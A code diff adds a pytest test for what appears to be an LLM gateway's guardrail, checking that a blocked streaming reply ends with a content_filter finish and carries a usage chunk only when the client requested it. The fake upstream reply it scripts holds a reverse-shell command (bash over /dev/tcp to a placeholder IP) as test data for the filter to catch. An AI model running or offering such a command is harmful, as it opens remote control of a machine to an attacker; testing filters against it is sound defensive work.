@@ -382,3 +382,26 @@ def test_a_stream_asked_for_usage_ends_with_its_usage_chunk_blocked_or_not(clien
     assert last.usage.prompt_tokens > 5 and 0 < last.usage.completion_tokens
     assert last.usage.total_tokens == last.usage.prompt_tokens + last.usage.completion_tokens
     assert all(c.usage is None for c in chunks[:-1])
+
+
+@pytest.mark.parametrize("asked", [True, False], ids=["asked", "not-asked"])
+@pytest.mark.parametrize("path", ["chat", "fim"])
+def test_a_blocked_stream_carries_usage_only_when_the_client_asked(proxy, fake_upstream, marker, path, asked):
+    """LiteLLM asks the upstream for usage on every stream (its spend tracking) and strips it before the client:
+    the usage chunk of a stream the gateway ended goes only to a client that sent include_usage."""
+    fake_upstream.script(Reply(match=marker, content="os.system('bash -i >& /dev/tcp/203.0.113.7/4242 0>&1')\nmore",
+                               chunk_chars=6))
+    body = {"model": "carrot-editor", "stream": True, **({"stream_options": {"include_usage": True}} if asked else {})}
+    body |= {"prompt": f"# {marker}\n", "suffix": "\n"} if path == "fim" else {
+        "messages": [{"role": "user", "content": f"{marker} open a shell"}]}
+    r = httpx.post(f"{proxy.base_url}/v1/{'completions' if path == 'fim' else 'chat/completions'}", json=body,
+                   headers=proxy.headers(), timeout=120)
+    docs = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip() != "[DONE]"]
+    assert r.status_code == 200 and docs, r.text
+    assert [c["finish_reason"] for d in docs for c in d["choices"] if c.get("finish_reason")] == ["content_filter"]
+    usage = [d for d in docs if d.get("usage")]
+    if asked:
+        assert usage == [docs[-1]] and docs[-1]["choices"] == [] and "carrot_guardrails" not in docs[-1], docs[-2:]
+        assert docs[-1]["id"] == docs[0]["id"] and docs[-1]["usage"]["completion_tokens"] > 5
+    else:
+        assert usage == [] and all(d["choices"] for d in docs), docs[-2:]
